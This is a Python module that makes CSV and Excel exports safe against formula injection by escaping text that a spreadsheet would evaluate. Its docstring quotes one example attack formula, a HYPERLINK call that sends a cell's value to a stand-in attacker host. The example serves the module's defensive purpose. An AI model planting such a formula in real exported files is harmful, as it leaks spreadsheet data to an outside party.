"""Cells of the CSV and Excel files chitieu writes, safe to open in a spreadsheet.

A note such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would run
as a formula when a planner opens the file in Excel or LibreOffice, and so
would text starting with ``+``, ``-``, ``@``, a tab or a line break (formula
or CSV injection). Such text is written as text: in CSV behind an apostrophe
(OWASP's advice; the apostrophe stays in the file), in XLSX as a string cell
marked "quote prefix", which Excel shows without an apostrophe and never
evaluates. Numbers are left as they are, negative ones included, and so is
text that is only a number ("-3,5").
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain number as people write it: -3,5 or -3.5 or +1.234,5 or -2e3.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d.,]*|[.,]\d+)(?:[eE][+-]?\d+)?")


def runs_as_formula(value: object) -> bool:
    """Whether a spreadsheet would read this value, typed into a cell, as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(_FORMULA_STARTS)
        and _PLAIN_NUMBER.fullmatch(value) is None
    )


def csv_cell(value: Any) -> Any:
    """A CSV field: text that would run as a formula gets a leading apostrophe.

    A carriage return becomes a line feed: Python's csv module quotes a field
    holding the line terminator ("\n") but not a lone "\r", which every
    reader then takes for the end of the row.
    """
    if not isinstance(value, str):
        return value
    text = value.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + text if runs_as_formula(value) else text


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with text that would run as a formula kept as text.

    openpyxl stores every string starting with "=" as a formula.
    """
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if runs_as_formula(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True
